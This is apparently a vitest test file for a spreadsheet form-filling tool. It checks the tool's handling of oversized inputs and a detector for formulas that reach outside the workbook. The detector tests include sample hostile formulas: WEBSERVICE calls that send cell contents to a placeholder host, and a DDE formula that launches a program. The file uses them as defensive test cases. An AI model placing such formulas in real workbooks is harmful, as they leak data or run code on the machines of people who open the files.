import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { fillForm } from './fillForm.ts';
import { lookAtForm } from './look.ts';
import type { FormList, FormMap } from './records.ts';
import { whatItSends } from './sending.ts';
import { readXml, within } from './xml.ts';

const NAMES = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relations = (...pairs: [id: string, type: string, target: string][]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${pairs
    .map(([id, type, target]) => `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"/>`)
    .join('')}</Relationships>`;

/** A workbook of one sheet with these rows and shared texts. */
const workbook = (rows: string, strings: readonly string[] = []): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries({
        '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        '_rels/.rels': relations(['r1', 'officeDocument', 'xl/workbook.xml']),
        'xl/workbook.xml': `<workbook ${NAMES} xmlns:r="${OFFICE}"><sheets><sheet name="List" sheetId="1" r:id="r1"/></sheets></workbook>`,
        'xl/_rels/workbook.xml.rels': relations(
          ['r1', 'worksheet', 'worksheets/sheet1.xml'],
          ['r2', 'sharedStrings', 'sharedStrings.xml'],
        ),
        'xl/worksheets/sheet1.xml': `<worksheet ${NAMES}><sheetData>${rows}</sheetData></worksheet>`,
        'xl/sharedStrings.xml': `<sst ${NAMES}>${strings.map((text) => `<si><t>${text}</t></si>`).join('')}</sst>`,
      }).map(([name, text]) => [name, strToU8(text)]),
    ),
  );
const map: FormMap = {
  version: 1,
  start: { sheet: 'List', cell: 'A2' },
  rows: 'fill',
  ready: 1,
  columns: [{ to: 'A', heading: 'Name', from: 'Name' }],
  fields: [],
  groups: false,
  overwrite: true,
  fileName: 'list',
};
const nothing: FormList = { columns: [{ isThere: true, isPicture: false }], lines: [], problems: [] };
const head = '<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>';

describe('a form that is made to be slow', () => {
  test('a million empty rows are walked through', () => {
    const tree = readXml(`<sheetData>${'<row/>'.repeat(1_000_000)}<c/></sheetData>`, 'a sheet');
    expect([...within(tree, 'c')]).toHaveLength(1);
  });
  test('twenty thousand texts that ask for what nobody knows are told by the first two hundred', () => {
    const texts = Array.from({ length: 20_000 }, (_, at) => `{Who ${at}}`);
    const rows = texts.map((_, at) => `<row r="${at + 3}"><c r="B${at + 3}" t="s"><v>${at}</v></c></row>`).join('');
    const { problems } = fillForm(workbook(head + rows, texts), map, nothing, new Map());
    const unknown = problems.filter(({ code }) => code === 'unknown-field');
    expect(unknown).toHaveLength(201);
    expect(unknown[7].message).toBe(
      'B10 on “List” asks for {Who 7}; nothing here is called “Who 7”, so it stays as it is written.',
    );
    expect(unknown[200].message).toMatch(/^19,800 further places/);
  });
  test('a text of megabytes of placeholders is refused, as no cell holds one', () => {
    const bytes = workbook(head, ['{a}'.repeat(1_000_000)]);
    expect(() => lookAtForm(bytes)).toThrow('has 3,000,000 letters; a cell holds 32,767');
    expect(() => fillForm(bytes, map, nothing, new Map())).toThrow('a cell holds 32,767');
  });
});

describe('formulas that reach outside the workbook', () => {
  test.each([
    ['WEBSERVICE("http://elsewhere.example/?"&A1)', 'sends what stands in its cells to an address'],
    ['_xlfn.WEBSERVICE(A1)', 'sends what stands in its cells to an address'],
    ['HYPERLINK("https://elsewhere.example/"&B2,"more")', 'leads to an address elsewhere'],
    ['HYPERLINK(A1)', 'leads to an address elsewhere'],
    ["cmd|'/C calc'!A0", 'runs another program'],
    ['_xlfn.IMAGE("https://elsewhere.example/a.png")', 'fetches a picture'],
    ['RTD("server",,"topic")', 'asks another program'],
    ['1+CALL("library","function")', 'calls code'],
  ])('%s', (formula, what) => expect(whatItSends(formula)).toContain(what));
  test.each([
    ['HYPERLINK("#Parts!A1","to the parts")'],
    ['SUM(A1:A9)'],
    ['"call WEBSERVICE(1)"&A1'],
    ["'a|b'!A1"],
    ['A1&"|"&B1'],
    ['MYWEBSERVICE(1)'],
  ])('%s stays in it', (formula) => expect(whatItSends(formula)).toBeNull());
  test('are said when the form comes in and before it is filled', () => {
    const row = '<row r="5"><c r="D5"><f>WEBSERVICE("http://elsewhere.example/"&amp;A2)</f></c></row>';
    const bytes = workbook(head + row);
    expect(lookAtForm(bytes).sending).toEqual([
      { at: 'D5 on “List”', what: 'sends what stands in its cells to an address' },
    ]);
    expect(fillForm(bytes, map, nothing, new Map()).problems.map(({ message }) => message)).toEqual([
      'A formula in D5 on “List” sends what stands in its cells to an address when the workbook is opened or clicked on. Take it out of the form unless it is meant to.',
    ]);
  });
});
